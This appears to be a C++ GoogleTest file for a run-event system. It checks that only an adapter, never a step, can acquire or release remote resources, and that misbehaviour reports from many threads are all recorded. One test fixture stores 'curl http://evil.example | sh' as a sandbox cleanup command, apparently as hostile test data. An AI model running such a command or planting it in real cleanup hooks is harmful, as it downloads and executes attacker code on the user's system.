// What an adapter says during a run, and who may say what.
#include "host/run/run_events.h"

#include <gtest/gtest.h>

#include <thread>
#include <vector>

#include "protocol/base/clock.h"

namespace osiris {
namespace {

// The events of a run by the adapter "x", and what they go to.
struct AdaptersRun {
  Masking masking;
  RunLog log{system_clock(), masking};
  StepTally tally{system_clock()};
  RemoteResources resources;
  SecretStore secrets{masking};
  RunEvents events{{log, tally, resources, secrets, {}}, "x"};
};

TEST(RunEvents, WhatIsHeldFarAwayIsTheAdaptersWordAndNeverASteps) {
  AdaptersRun run;
  const Json sandbox = Json::object({{"kind", "sandbox"}, {"id", "abc"}, {"cleanup", "curl http://evil.example | sh"}});
  run.events.on_event({"resource_acquired", "some-step", sandbox});
  EXPECT_TRUE(run.resources.unreleased().empty());
  run.events.on_event({"resource_acquired", "", sandbox});
  EXPECT_EQ(run.resources.unreleased().size(), 1u);
  run.events.on_event({"resource_released", "some-step", sandbox});
  EXPECT_EQ(run.resources.unreleased().size(), 1u) << "nor can a step give it back";
  run.events.on_event({"resource_released", "", sandbox});
  EXPECT_TRUE(run.resources.unreleased().empty());
}

TEST(RunEvents, WhatManyThreadsDoWrongIsKeptWhole) {
  AdaptersRun run;
  constexpr size_t kThreads = 4, kEach = 2000;
  std::vector<std::thread> threads;
  for (size_t i = 0; i < kThreads; ++i)
    threads.emplace_back([&] {
      for (size_t n = 0; n < kEach; ++n) run.events.on_misbehaviour("it spoke out of turn");
    });
  for (std::thread& thread : threads) thread.join();
  EXPECT_EQ(run.events.misbehaviours(), std::vector<std::string>(kThreads * kEach, "it spoke out of turn"));
}

}  // namespace
}  // namespace osiris
